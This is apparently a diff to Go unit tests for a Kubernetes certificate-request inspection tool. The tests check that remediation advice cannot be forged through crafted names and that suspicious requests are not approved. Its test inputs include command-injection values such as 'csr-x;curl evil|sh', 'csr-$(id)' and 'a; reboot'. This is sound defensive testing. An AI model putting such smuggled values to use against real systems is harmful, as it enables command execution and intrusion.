@@ -17,7 +17,7 @@ func TestANameOfAnObjectForgesNoCommand(t *testing.T) {
 	t.Parallel()
 	for _, name := range []string{"csr-x;curl evil|sh", "csr-x\n  next: kubectl certificate approve csr-evil", "csr-x csr-evil", "csr-$(id)", "--all", "a'b"} {
 		for where, next := range map[string]string{
-			"a pending request": printed(csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: name}, Condition: inspect.Pending}}, nil).Remediation),
+			"a pending request": printed(csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: name}, Condition: inspect.Pending}}, nil, nil).Remediation),
 			"annotations":       printed(annotationsOf(pki.Location{Kind: "Secret", Namespace: "a", Name: name})),
 			"their namespace":   printed(annotationsOf(pki.Location{Kind: "Secret", Namespace: name, Name: "a"})),
 			"an object":         printed(advise("look", pki.Location{Kind: "Secret", Namespace: "a", Name: name})),
@@ -48,7 +48,7 @@ func TestARequestThatHidesSomethingIsNotApproved(t *testing.T) {
 	t.Parallel()
 	for bad, approves := range map[string]bool{"": true, "spec.request holds something beside the certificate request": false} {
 		r := inspect.SigningRequest{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: "csr-1"}, Condition: inspect.Pending, Bad: bad}
-		next := printed(csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{r}, nil).Remediation)
+		next := printed(csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{r}, nil, nil).Remediation)
 		if !strings.Contains(next, "kubectl describe csr csr-1") || strings.Contains(next, "certificate approve") != approves {
 			t.Errorf("bad %q: %s", bad, next)
 		}
@@ -63,7 +63,7 @@ func TestARequestToJoinIsNotApprovedByItsDescription(t *testing.T) {
 	for requester, joins := range map[string]bool{"system:serviceaccount:openshift-machine-config-operator:node-bootstrapper": true, "system:bootstrap:abcdef": true, "system:node:worker-0": false} {
 		for name, s := range map[string]inspect.Snapshot{"read": {Nodes: []inspect.Node{worker}}, "not asked": {OtherNodes: []inspect.Node{worker}}} {
 			f := inspect.NewFacts(s, inspecttest.Noon, 0)
-			next := printed(csrFinding(f, []inspect.SigningRequest{asksToJoin(requester, "worker-0")}, nodesByName(f)).Remediation)
+			next := printed(csrFinding(f, []inspect.SigningRequest{asksToJoin(requester, "worker-0")}, nodesByName(f), nil).Remediation)
 			if !strings.Contains(next, "kubectl describe csr csr-1") || strings.Contains(next, "certificate approve") == joins || strings.Contains(next, "fix-api-int --nodes worker-0 --approve-csrs") != joins {
 				t.Errorf("%s, %s: %s", requester, name, next)
 			}
@@ -79,7 +79,7 @@ func asksToJoin(requester, node string) inspect.SigningRequest {
 func TestANewMachineIsNoNodeYet(t *testing.T) {
 	t.Parallel()
 	f := inspect.NewFacts(inspect.Snapshot{Nodes: []inspect.Node{{Name: "worker-0"}}}, inspecttest.Noon, 0)
-	next := printed(csrFinding(f, []inspect.SigningRequest{asksToJoin("system:bootstrap:abcdef", "worker-9")}, nodesByName(f)).Remediation)
+	next := printed(csrFinding(f, []inspect.SigningRequest{asksToJoin("system:bootstrap:abcdef", "worker-9")}, nodesByName(f), nil).Remediation)
 	if strings.Contains(next, "fix-api-int") || !strings.Contains(next, "no Node worker-9 was read: approve it only if you add that machine now, and its kubelet tried at ") {
 		t.Errorf("%s", next)
 	}
@@ -90,7 +90,7 @@ func TestANodeOfAnOddNameHasNoCommand(t *testing.T) {
 	t.Parallel()
 	for _, odd := range []string{"a; reboot", "--nodes", "a b", "“", ""} {
 		f := inspect.NewFacts(inspect.Snapshot{Nodes: []inspect.Node{{Name: odd}}}, inspecttest.Noon, 0)
-		r := csrFinding(f, []inspect.SigningRequest{asksToJoin("system:bootstrap:abcdef", odd)}, nodesByName(f)).Remediation
+		r := csrFinding(f, []inspect.SigningRequest{asksToJoin("system:bootstrap:abcdef", odd)}, nodesByName(f), nil).Remediation
 		if next := printed(r); next != "look at who requests what: kubectl describe csr csr-1\nkubectl describe csr csr-1" && next != "look at who requests what: kubectl describe csr csr-1\n" {
 			t.Errorf("%q: %s", odd, next)
 		}
